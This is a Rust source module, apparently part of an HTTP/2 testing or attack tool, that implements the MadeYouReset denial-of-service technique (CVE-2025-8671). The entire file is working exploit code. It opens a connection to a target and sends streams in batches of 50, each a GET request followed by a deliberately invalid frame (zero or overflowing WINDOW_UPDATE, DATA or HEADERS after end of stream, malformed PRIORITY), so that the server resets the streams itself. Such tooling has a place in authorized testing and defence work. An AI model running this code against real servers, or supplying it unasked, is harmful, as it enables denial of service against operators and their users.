//! Makes the edge reset streams itself (MadeYouReset, CVE-2025-8671): each request is followed by a frame that is an
//! error on its stream, so the client never sends a reset of its own.

use super::Outcome;
use super::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, PRIORITY, Peer, WINDOW_UPDATE, frame, request};
use crate::Target;
use anyhow::Result;
use std::time::Duration;

/// The ways to provoke a reset.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Primitive {
    /// WINDOW_UPDATE by zero.
    ZeroIncrement,
    /// WINDOW_UPDATE that overflows the window.
    Overflow,
    /// DATA after END_STREAM.
    DataAfterEnd,
    /// HEADERS after END_STREAM.
    HeadersAfterEnd,
    /// PRIORITY on itself.
    SelfPriority,
    /// PRIORITY of the wrong length.
    ShortPriority,
}

impl Primitive {
    pub const ALL: [Self; 6] = [
        Self::ZeroIncrement,
        Self::Overflow,
        Self::DataAfterEnd,
        Self::HeadersAfterEnd,
        Self::SelfPriority,
        Self::ShortPriority,
    ];

    fn frame(self, stream: u32, block: &[u8]) -> Vec<u8> {
        match self {
            Self::ZeroIncrement => frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()),
            Self::Overflow => frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()),
            Self::DataAfterEnd => frame(DATA, 0, stream, b"x"),
            Self::HeadersAfterEnd => frame(HEADERS, END_STREAM | END_HEADERS, stream, block),
            Self::SelfPriority => frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[0]].concat()),
            Self::ShortPriority => frame(PRIORITY, 0, stream, &[0; 4]),
        }
    }
}

/// Sends so many requests for `path`, each spoilt by the primitive.
pub async fn run(target: &Target, path: &str, primitive: Primitive, streams: u32) -> Result<Outcome> {
    let mut peer = Peer::connect(target, &[]).await?;
    let block = request("GET", &target.authority(), path);
    for batch in (0..streams).collect::<Vec<_>>().chunks(50) {
        let mut bytes = Vec::new();
        for number in batch {
            let id = number * 2 + 1;
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &block));
            bytes.extend(primitive.frame(id, &block));
        }
        peer.poll().await?;
        if peer.is_closed() || peer.send(&bytes).await.is_err() {
            break;
        }
    }
    peer.end(Duration::from_secs(5)).await
}
